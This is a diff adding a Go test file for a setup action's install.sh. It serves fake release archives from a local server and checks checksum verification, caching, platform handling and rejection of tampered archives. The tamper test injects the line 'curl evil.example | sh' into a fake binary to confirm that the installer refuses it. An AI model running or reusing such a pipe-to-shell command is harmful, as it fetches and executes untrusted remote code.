@@ -1,0 +1,168 @@
+// Package setup holds the setup action (action.yml, install.sh); its tests run install.sh against
+// a local release server, as a runner would run it.
+package setup
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync"
+	"testing"
+)
+
+const fakeBinary = "#!/bin/sh\necho 'cdkbot 1.2.3 (commit 0123456789ab) test'\n"
+
+func tarGz(t *testing.T, name, content string) []byte {
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, f := range []struct{ name, body string }{{"README.md", "# cdkbot"}, {name, content}} {
+		if err := tw.WriteHeader(&tar.Header{Name: f.name, Mode: 0o755, Size: int64(len(f.body))}); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(f.body))
+	}
+	tw.Close()
+	gz.Close()
+	return buf.Bytes()
+}
+
+func zipped(t *testing.T, name, content string) []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	w, err := zw.Create(name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.Write([]byte(content))
+	zw.Close()
+	return buf.Bytes()
+}
+
+// release serves /v1.2.3/{archives, checksums.txt} and /releases/latest, counting downloads.
+type release struct {
+	files     map[string][]byte
+	mu        sync.Mutex
+	downloads int
+}
+
+func (r *release) ServeHTTP(w http.ResponseWriter, req *http.Request) {
+	if req.URL.Path == "/api/releases/latest" {
+		fmt.Fprint(w, `{"tag_name": "v1.2.3", "name": "v1.2.3"}`)
+		return
+	}
+	b, ok := r.files[strings.TrimPrefix(req.URL.Path, "/dl/v1.2.3/")]
+	if !ok {
+		http.NotFound(w, req)
+		return
+	}
+	r.mu.Lock()
+	r.downloads++
+	r.mu.Unlock()
+	w.Write(b)
+}
+
+func newRelease(t *testing.T, tamper bool) (*release, string) {
+	archives := map[string][]byte{
+		"cdkbot_1.2.3_linux_amd64.tar.gz":  tarGz(t, "cdkbot", fakeBinary),
+		"cdkbot_1.2.3_darwin_arm64.tar.gz": tarGz(t, "cdkbot", fakeBinary),
+		"cdkbot_1.2.3_windows_amd64.zip":   zipped(t, "cdkbot.exe", fakeBinary),
+	}
+	var sums strings.Builder
+	for name, b := range archives {
+		h := sha256.Sum256(b)
+		fmt.Fprintf(&sums, "%s  %s\n", hex.EncodeToString(h[:]), name)
+	}
+	r := &release{files: map[string][]byte{"checksums.txt": []byte(sums.String())}}
+	for name, b := range archives {
+		if tamper {
+			b = tarGz(t, "cdkbot", fakeBinary+"curl evil.example | sh\n")
+		}
+		r.files[name] = b
+	}
+	srv := httptest.NewServer(r)
+	t.Cleanup(srv.Close)
+	return r, srv.URL
+}
+
+// install runs install.sh as the runner would; it returns the exit error, the output and the
+// files the runner reads afterwards.
+func install(t *testing.T, url, version, runnerOS, cache string) (error, string, string, string) {
+	t.Helper()
+	dir := t.TempDir()
+	path, output := filepath.Join(dir, "path"), filepath.Join(dir, "output")
+	cmd := exec.Command("bash", "install.sh")
+	cmd.Env = append(os.Environ(), "CDKBOT_VERSION="+version, "CDKBOT_RELEASES_URL="+url+"/dl", "CDKBOT_API_URL="+url+"/api",
+		"RUNNER_OS="+runnerOS, "RUNNER_ARCH=X64", "RUNNER_TOOL_CACHE="+cache, "GITHUB_PATH="+path, "GITHUB_OUTPUT="+output)
+	if runnerOS == "macOS" {
+		cmd.Env = append(cmd.Env, "RUNNER_ARCH=ARM64")
+	}
+	out, err := cmd.CombinedOutput()
+	p, _ := os.ReadFile(path)
+	o, _ := os.ReadFile(output)
+	return err, string(out), string(p), string(o)
+}
+
+func TestInstallVerifiesAndCaches(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("the runner runs install.sh with Git Bash; this test runs it with the host's bash and coreutils")
+	}
+	rel, url := newRelease(t, false)
+	cache := t.TempDir()
+	err, out, path, output := install(t, url, "latest", "Linux", cache)
+	dir := filepath.Join(cache, "cdkbot", "1.2.3", "amd64")
+	if err != nil || !strings.Contains(out, "cdkbot 1.2.3") || strings.TrimSpace(path) != dir ||
+		!strings.Contains(output, "version=1.2.3") || !strings.Contains(output, "path="+dir) {
+		t.Fatalf("install: %v\n%s\nPATH: %q\nOUTPUT: %q", err, out, path, output)
+	}
+	if rel.downloads != 2 { // checksums.txt and the archive
+		t.Errorf("downloads: %d", rel.downloads)
+	}
+	// Again: from the tool cache, nothing downloaded.
+	if err, out, _, _ := install(t, url, "v1.2.3", "Linux", cache); err != nil || !strings.Contains(out, "from the tool cache") || rel.downloads != 2 {
+		t.Errorf("second install: %v, %d downloads\n%s", err, rel.downloads, out)
+	}
+	// macOS on ARM64, and Windows (zip) where this machine can unzip.
+	if err, out, _, _ := install(t, url, "1.2.3", "macOS", t.TempDir()); err != nil {
+		t.Errorf("macOS: %v\n%s", err, out)
+	}
+	if _, err := exec.LookPath("unzip"); err == nil {
+		winCache := t.TempDir()
+		if err, out, _, _ := install(t, url, "1.2.3", "Windows", winCache); err != nil {
+			t.Errorf("windows: %v\n%s", err, out)
+		} else if _, err := os.Stat(filepath.Join(winCache, "cdkbot", "1.2.3", "amd64", "cdkbot.exe")); err != nil {
+			t.Error(err)
+		}
+	}
+}
+
+func TestInstallRefusesATamperedArchive(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("the runner runs install.sh with Git Bash; this test runs it with the host's bash and coreutils")
+	}
+	_, url := newRelease(t, true)
+	cache := t.TempDir()
+	err, out, path, _ := install(t, url, "1.2.3", "Linux", cache)
+	if err == nil || !strings.Contains(out, "does not match checksums.txt") || !strings.Contains(out, "::error") || path != "" {
+		t.Fatalf("tampered archive: %v\n%s", err, out)
+	}
+	if entries, _ := os.ReadDir(cache); len(entries) != 0 {
+		t.Errorf("something was installed: %v", entries)
+	}
+	for version, want := range map[string]string{"1.2": "is not a release version", "9.9.9": "no checksums.txt for release v9.9.9"} {
+		if err, out, _, _ := install(t, url, version, "Linux", t.TempDir()); err == nil || !strings.Contains(out, want) {
+			t.Errorf("version %s: %v\n%s", version, err, out)
+		}
+	}
+}
